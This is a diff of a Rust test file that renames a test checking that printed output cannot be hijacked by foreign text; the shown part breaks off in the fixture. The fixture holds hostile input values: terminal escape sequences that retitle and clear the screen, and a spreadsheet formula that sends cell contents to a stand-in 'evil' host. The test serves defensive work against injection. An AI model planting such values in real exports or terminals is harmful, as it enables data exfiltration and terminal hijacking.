@@ -1,9 +1,9 @@
-//! What is printed for people: texts of strangers command no terminal, and no spreadsheet.
+//! Output for people: foreign text controls neither the terminal nor a spreadsheet.
 
 use crate::support::own_lake::OwnLake;
 
 #[test]
-fn texts_of_strangers_command_nothing() {
+fn foreign_text_cannot_control_terminal_or_spreadsheet() {
     let lake = OwnLake::new("printed");
     let persons = "{\"external_id\":\"P1\",\"first_name\":\"\\u001b]0;owned\\u0007\\u009b2J\",\
                    \"last_name\":\"=HYPERLINK(\\\"http://evil/?\\\"&A1)\",\"country\":\"DE\"}\n\
